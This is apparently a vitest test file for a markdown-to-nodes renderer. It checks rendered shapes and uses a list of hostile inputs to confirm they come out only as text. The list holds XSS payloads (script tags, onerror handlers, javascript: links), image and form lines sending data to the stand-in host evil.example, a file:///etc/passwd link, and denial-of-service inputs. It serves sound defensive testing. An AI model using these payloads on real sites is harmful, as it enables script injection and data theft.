// Markdown in, nodes out: what each input becomes, and that nothing else can come of it.
import { expect, test } from "vitest";
import { leavesOf, parse } from "../../src/text/markdown";
import { Text } from "../../src/text/text";
import { drawn, shape, strangers } from "./drawn";

const RENDERED: readonly (readonly [source: string, shape: string])[] = [
  ["plain words", "p(plain words)"],
  ["**bold** and *slanted*", "p(strong(bold) and em(slanted))"],
  ["***both***", "p(em(strong(both)))"],
  ["a * b * c", "p(a * b * c)"],
  ["snake_case_name", "p(snake_case_name)"],
  ["~~gone~~", "p(del(gone))"],
  ["one\ntwo", "p(one\ntwo)"],
  ["one  \ntwo", "p(one  \ntwo)"],
  ["one\n\ntwo", "p(one)p(two)"],
  ["# Title", "md-heading(Title)"],
  ["Title\n=====", "md-heading(Title)"],
  ["####### seven", "p(####### seven)"],
  ["`code`", "p(code(code))"],
  ["`` a ` b ``", "p(code(a ` b))"],
  ["```js\nlet a = 1;\n```", "md-code(md-language(js)pre(code(let a = 1;)))"],
  ["~~~\n<b>\n~~~", "md-code(pre(code(<b>)))"],
  ["```\nnever closed", "md-code(pre(code(never closed)))"],
  ["    indented", "md-code(pre(code(indented)))"],
  ["- one\n- two", "ul(li(p(one))li(p(two)))"],
  ["3. three\n7. seven", "ol(li(p(three))li(p(seven)))"],
  ["- one\n  - inner\n- two", "ul(li(p(one)ul(li(p(inner))))li(p(two)))"],
  ["- [x] done\n- [ ] open", "ul(li(p([x] done))li(p([ ] open)))"],
  ["- one\n\n  more\n", "ul(li(p(one)p(more)))"],
  ["> quoted\n> still", "blockquote(p(quoted\nstill))"],
  ["> - a\n>   b", "blockquote(ul(li(p(a\nb))))"],
  ["---", "hr()"],
  ["| a | b |\n|---|---|\n| 1 | 2 |", "md-table(table(thead(tr(th(a)th(b)))tbody(tr(td(1)td(2)))))"],
  ["| a |\n|---|\n| x \\| y |", "md-table(table(thead(tr(th(a)))tbody(tr(td(x | y)))))"],
  ["| a |\n|---|\n| `b` **c** |", "md-table(table(thead(tr(th(a)))tbody(tr(td(code(b) strong(c))))))"],
  ["\\*not slanted\\*", "p(*not slanted*)"],
  ["a &amp; b &lt;c&gt;", "p(a & b <c>)"],
  ["&#65;&#x42; &hellip; &#0; &#xD800;", "p(AB &hellip; &#0; &#xD800;)"],
  ["[text](https://a.example/b)", "p(md-link(textaddress(https://a.example/b)))"],
  ['[text](https://a.example "a title")', 'p(md-link(textaddress(https://a.example "a title")))'],
  ["<https://a.example>", "p(md-link(address(https://a.example)))"],
  ["see https://a.example/x.", "p(see md-link(address(https://a.example/x)).)"],
  ["[text][one]\n\n[one]: https://a.example", "p(md-link(textaddress(https://a.example)))md-literal([one]: https://a.example)"],
  ["![alt](https://a.example/i.png)", "p(md-image(md-tag(image)altaddress(https://a.example/i.png)))"],
  ["[![alt](i.png)](https://a.example)", "p(md-link(md-image(md-tag(image)altaddress(i.png))address(https://a.example)))"],
  ["zero\u200bwidth", "p(zerounseen(U+200B)width)"],
  ["", ""],
  ["\r\n\r\nwindows\r\nlines", "p(windows\nlines)"],
];

test.each(RENDERED)("%j is drawn as it should be", (source, wanted) => {
  const root = drawn(<Text text={source} />);
  expect(shape(root)).toBe(wanted);
  expect(strangers(root)).toEqual([]);
});

const HOSTILE: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><use href=data:image/svg+xml,x></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
  "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
  "<iframe src=javascript:alert(1)>",
  "<object data=x></object><embed src=x>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example><input name=q></form>",
  "<style>@import url(https://evil.example)</style>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>",
  "<a id=config name=config href=x>x</a>",
  "<x-element class=head onclick=alert(1)>x</x-element>",
  "<div style='position:fixed;inset:0;background:red'>x</div>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](vbscript:msgbox)",
  "[a](blob:https://a.example/x)",
  "[a](file:///etc/passwd)",
  "[a](<javascript:alert(1)>)",
  '[a](x "onmouseover=alert(1)")',
  '[a]: https://a.example "title\\" onclick=alert(1)"\n\n[a]',
  "![a](https://evil.example/?d=secret)",
  "![a][b]\n\n[b]: https://evil.example/p.png",
  "![](data:image/svg+xml;base64,PHN2Zz4=)",
  "<https://evil.example/\u202egnp.exe>",
  "https://аррle.example",
  "www.evil.example",
  "mailto:a@b.example?subject=<script>",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  "```__proto__\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x> | __proto__ |\n|---|---|\n| <script> | constructor |",
  "| a | b |\n|---|---|\n| 1 | 2 | 3 dropped |",
  "# <h1 onclick=alert(1)>",
  "> <blockquote cite=javascript:alert(1)>",
  "- <li value=1>",
  "{{7*7}} ${7*7} #{7*7}",
  "__proto__ constructor toString hasOwnProperty",
  "[__proto__]\n\n[__proto__]: https://a.example",
  "[constructor][toString]",
  "\u202eevil\u202c \u2066x\u2069",
  "\ud800 lone \udfff",
  "\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}",
  "a\u0000b\u0007c\u001b[31md",
  "z\u0351\u0352\u0353".repeat(400),
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;",
  "\\<script\\>",
  "<scr\u200bipt>alert(1)</script>",
  "$$\\href{javascript:alert(1)}{x}$$",
  "<details open ontoggle=alert(1)>",
  "<video poster=https://evil.example><source srcset=x></video>",
  "<button formaction=javascript:alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "</div></main><script>alert(1)</script>",
  "<p dir=rtl lang=x>",
  "[a](https://user:password@evil.example)",
  "**<b>**<i>*</b>",
  "]]>\u2028alert(1)\u2029",
  "[a](\n\njavascript:alert(1))",
];

test.each(HOSTILE)("nothing but text comes of %j", (source) => {
  const root = drawn(<Text text={source} />);
  expect(strangers(root)).toEqual([]);
  const shown = root.textContent.replace(/^Shown plain: [^.]*\./, "");
  // Every word of it is there to be read.
  for (const word of source.match(/[a-z]{3,}/gi) ?? []) if (!/^(?:quot|amp|lt|gt)$/.test(word)) expect(shown).toContain(word);
});

test.each<readonly [what: string, source: string, why: string]>([
  ["a long text", "word ".repeat(50_000), "too long"],
  ["a long line", "x".repeat(30_000), "line is too long"],
  ["deep quotations", `${">".repeat(200)} x`, "deep"],
  ["deep quotations with spaces", `${"> ".repeat(200)}x`, "deep"],
  ["deep lists on a line", `${"- ".repeat(100)}x`, "deep"],
  ["lists indented without end", Array.from({ length: 60 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"), "deep"],
  ["open brackets without end", "[".repeat(10_000), "marks"],
  ["stars without end", "*a ".repeat(6_000), "marks"],
  ["lines without end", "- a\nx".repeat(3_000), "lines"],
  ["a dropped cell", "| a |\n|---|\n| 1 | left out |", "leave out"],
])("%s is shown plain", (_, source, why) => {
  const document = parse(source);
  expect(document.kind === "plain" ? document.why : document.kind).toContain(why);
});

test("a million signs come to an end", () => {
  for (const sign of ["*", "[", ">", "`", "<", "_ ", "![", "- ", "|", "~~", "&", "\\", "#", "(", "a\n", "<!--", "[a]: ", "1. "]) {
    expect(parse(sign.repeat(Math.ceil(1_000_000 / sign.length))).kind, sign).toBe("plain");
  }
}, 60_000);

test.each(["*a **b ".repeat(150), "[a](".repeat(200), "`a``".repeat(150), "| a ".repeat(300), "> a\nb\n".repeat(500), "<a ".repeat(500), "*a*".repeat(250), "\\[".repeat(300), "~a~~".repeat(150), "- *a\n".repeat(900)])(
  "as much as the lexer is ever given comes to an end: %.12s",
  (part) => {
    const source = `${part}\n\n`.repeat(Math.max(2, Math.floor(160_000 / part.length)));
    expect(["plain", "blocks"]).toContain(parse(source).kind);
  },
  60_000,
);

test("a table's cells, lists' numbers and tasks stand for what the source says", () => {
  const root = drawn(<Text text={"5. five\n9. nine"} />);
  expect([...root.querySelectorAll("li")].map((item) => item.getAttribute("value"))).toEqual(["5", "9"]);
});

test("leaves come in the order of the source", () => {
  const document = parse("a **b** `c`\n\n- d\n\n| e |\n|---|\n| f |\n");
  if (document.kind === "plain") throw new Error(document.why);
  const places = leavesOf(document.blocks).map((leaf) => leaf.start);
  expect(places).toEqual([...places].sort((one, other) => one - other));
});
